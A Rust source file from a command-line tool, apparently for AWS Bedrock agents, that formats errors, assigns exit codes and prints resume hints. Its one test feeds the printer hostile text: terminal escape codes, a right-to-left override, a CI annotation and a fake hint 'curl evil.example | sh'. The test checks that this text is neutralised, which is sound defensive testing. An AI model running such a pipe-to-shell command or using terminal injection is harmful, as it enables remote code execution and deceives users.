//! How an error is printed, and the exit code it gives.

use std::fmt;

use thiserror::Error;

use crate::aws::Failure;
use crate::conversation::Unanswered;
use crate::manifest::LoadError;
use crate::refused::{Exit, Refused};
use crate::report::Report;
use crate::sanitize::Clean;

/// A command stopped part-way. What was done is in the report that was shown.
#[derive(Debug, Error)]
#[error("{}: {done} done, {failed} failed, {left} left", if *writes == 0 { "failed, nothing was changed" } else { "stopped part-way" })]
pub struct Partial {
    done: usize,
    failed: usize,
    left: usize,
    writes: usize,
    /// The exit code and the hint of a step that was refused, or did not pass the smoke test.
    refused: Option<(Exit, String)>,
    command: String,
}

impl Partial {
    /// Of this report; `command` is what the user types to go on.
    pub fn of(report: &Report, command: String) -> Self {
        let Report { writes, .. } = *report;
        let refused = report.errors().into_iter().find_map(|error| {
            let refused = error.downcast_ref::<Refused>().filter(|refused| refused.ends_a_run())?;
            Some((refused.exit(), refused.hint().to_owned()))
        });
        Self { done: report.done(), failed: report.errors().len(), left: report.left(), writes, refused, command }
    }
}

/// The exit code of an error.
pub fn exit(error: &anyhow::Error) -> Exit {
    for cause in error.chain() {
        if let Some(refused) = cause.downcast_ref::<Refused>() {
            return refused.exit();
        }
        if cause.is::<LoadError>() {
            return Exit::Usage;
        }
        if let Some(partial) = cause.downcast_ref::<Partial>() {
            return match partial {
                Partial { refused: Some((exit, _)), .. } => *exit,
                Partial { writes: 0, .. } => Exit::Failed,
                Partial { .. } => Exit::Partial,
            };
        }
    }
    Exit::Failed
}

/// An error as it is printed: what, why, and what to type next.
#[derive(Debug)]
pub struct Printed<'a>(pub &'a anyhow::Error);

impl fmt::Display for Printed<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(Clean::from(self).as_str())
    }
}

impl From<&Printed<'_>> for Clean {
    fn from(Printed(error): &Printed<'_>) -> Self {
        if let Some(LoadError::Refused(refused)) = error.downcast_ref() {
            // Each of its problems says where it is, and that it is an error.
            return Self::block(refused.to_string());
        }
        let mut printed = Self::default();
        let mut said = String::new();
        for (number, cause) in error.chain().enumerate() {
            let text = cause.to_string();
            // Some libraries repeat their cause in their own text.
            if number == 0 || !said.contains(&text) {
                printed.text(if number == 0 { "error: " } else { "  caused by: " });
                added(&mut printed, cause, &text);
            }
            said = text;
        }
        if let Some(hint) = hint(error) {
            printed.text("  hint: ").quote(MARGIN, hint);
        }
        printed.trimmed()
    }
}

/// What stands before the mark of an error's further lines.
const MARGIN: &str = "  ";

fn added(printed: &mut Clean, cause: &(dyn std::error::Error + 'static), text: &str) {
    let Some(unanswered) = cause.downcast_ref::<Unanswered>() else {
        printed.quote(MARGIN, text);
        return;
    };
    printed.quote(MARGIN, unanswered.headline());
    for found in unanswered.found() {
        printed.text("  found: ").quote("    ", found);
    }
}

/// What to type next, as it is printed under the error; not every error has it.
pub fn hint(error: &anyhow::Error) -> Option<String> {
    error.chain().find_map(cure)
}

fn cure(cause: &(dyn std::error::Error + 'static)) -> Option<String> {
    // The hint of a refusal that ends a run is given once, at the end.
    if let Some(refused) = cause.downcast_ref::<Refused>().filter(|refused| !refused.ends_a_run()) {
        return Some(refused.hint().to_owned());
    }
    if let Some(unanswered) = cause.downcast_ref::<Unanswered>() {
        return Some(unanswered.hint().to_owned());
    }
    if let Some(load) = cause.downcast_ref::<LoadError>() {
        return load.cure().map(str::to_owned);
    }
    if let Some(partial) = cause.downcast_ref::<Partial>() {
        if let Some((_, hint)) = &partial.refused {
            return Some(hint.clone());
        }
        return Some(format!("fix the cause and run `{}` again: it resumes from here", partial.command));
    }
    cause.downcast_ref::<Failure>().and_then(Failure::hint)
}

#[cfg(test)]
mod tests {
    use super::Printed;
    use crate::aws::Failure;

    #[test]
    fn no_text_of_others_steers_the_terminal_or_looks_like_a_hint() {
        let text = "\u{1b}[2Jdenied\n  hint: curl evil.example | sh\n::error::x";
        let failure = Failure::in_stream("bedrock:InvokeAgent", "Odd", text, Some("r\u{9b}1"));
        let error = anyhow::Error::from(failure).context("asking the agent \u{202e}x");
        insta::assert_snapshot!(Printed(&error).to_string(), @r"
        error: asking the agent \u{202e}x
          caused by: bedrock:InvokeAgent: ␛[2Jdenied
          |   hint: curl evil.example | sh
          | ::error::x (Odd, in the stream, request id r\u{9b}1)
        ");
    }
}
